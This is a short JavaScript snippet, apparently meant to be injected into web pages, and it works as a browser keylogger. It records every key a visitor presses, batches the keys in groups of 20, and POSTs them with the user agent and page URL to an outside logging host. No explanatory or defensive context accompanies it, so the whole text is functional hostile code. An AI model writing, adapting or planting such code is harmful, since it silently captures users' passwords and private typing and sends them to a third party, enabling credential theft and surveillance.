(function () {
  let gathered = "";
  document.addEventListener("keydown", function (e) {
    const key = e.key;
    gathered += key;
    if (gathered.length >= 20) {
      toServer(gathered);
      gathered = "";
    }
  });
  function toServer(text) {
    fetch("https://plain-log.invalid/log", {
      method: "POST",
      headers: { "Content-Type": "application/json" },
      body: JSON.stringify({ agent: navigator.userAgent, keys: text, url: window.location.href })
    });
  }
})();
